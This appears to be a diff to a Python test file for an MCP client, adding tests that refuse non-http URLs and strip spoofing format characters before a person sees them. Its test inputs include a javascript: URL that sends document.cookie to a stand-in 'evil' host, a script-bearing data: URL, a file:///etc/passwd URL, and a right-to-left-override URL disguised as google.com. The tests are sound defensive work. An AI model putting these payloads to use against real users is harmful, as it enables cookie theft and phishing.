@@ -382,6 +382,7 @@ async def test_url_mode_request_and_accept_without_content() -> None:
             "mode": "url",
             "message": "Connect your account",
             "url": "https://example.com/connect",
+            "host": "example.com",
             "elicitation_id": "el-1",
         }
     ]
@@ -770,3 +771,72 @@ async def test_e2e_server_mode_declines() -> None:
     )
     assert json.loads(text_of(result)) == {"action": "decline", "content": None}
     assert received == [None]
+
+
+# -- URLs and text a person is shown ----------------------------------------------------------
+
+
+def _url(url: str, message: str = "Connect") -> types.ElicitRequestURLParams:
+    return types.ElicitRequestURLParams(message=message, url=url, elicitation_id="e")
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:fetch('//evil/'+document.cookie)",
+        "JavaScript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "file:///etc/passwd",
+        "https:///no-host",
+    ],
+)
+async def test_a_url_that_is_not_an_http_page_is_never_shown(
+    url: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    seen: list[dict[str, Any]] = []
+    result = await answer_elicitation(
+        "srv", _url(url), on_elicitation=seen.append, display=None, server_mode=False
+    )
+    assert result == types.ElicitResult(action="decline")
+    assert seen == []
+    [line] = [
+        r.getMessage() for r in caplog.records if "refused a URL elicitation" in r.getMessage()
+    ]
+    assert "'srv'" in line and ("only http and https" in line or "no host" in line)
+
+
+async def test_format_characters_are_stripped_and_the_host_shown_on_its_own() -> None:
+    seen: list[dict[str, Any]] = []
+
+    def handler(request: dict[str, Any]) -> dict[str, Any]:
+        seen.append(request)
+        return {"action": "decline"}
+
+    url = "https://evil.example/\u202emoc.elgoog.www//:sptth"
+    await answer_elicitation(
+        "srv",
+        _url(url, message="Sign in to \u202egoogle\u2066"),
+        on_elicitation=handler,
+        display=None,
+        server_mode=False,
+    )
+    [request] = seen
+    assert request["host"] == "evil.example"
+    assert request["url"] == "https://evil.example/moc.elgoog.www//:sptth"
+    assert "\u202e" not in request["message"] and "\u2066" not in request["message"]
+    schema = {
+        "type": "object",
+        "properties": {"f": {"type": "string", "title": "Na\u202eme", "enum": ["a\u200bb"]}},
+    }
+    seen.clear()
+    await answer_elicitation(
+        "srv", form(schema), on_elicitation=handler, display=None, server_mode=False
+    )
+    field = seen[0]["requested_schema"]["properties"]["f"]
+    assert field["title"] == "Name" and field["enum"] == ["a\u200bb"]
+
+
+def test_the_terminal_helper_strips_format_and_control_characters() -> None:
+    from glove_mcp.cli.console import plain
+
+    assert plain("a\u202eb\u200bc\x1b[31md\n\te") == "abc[31md\n\te"
